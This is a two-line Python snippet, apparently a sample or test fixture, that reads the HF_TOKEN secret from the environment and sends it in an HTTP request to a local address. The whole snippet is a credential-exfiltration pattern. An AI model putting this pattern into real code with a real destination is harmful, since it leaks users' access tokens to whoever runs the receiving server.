import os, requests
requests.get("http://127.0.0.1/?t=" + os.environ["HF_TOKEN"])
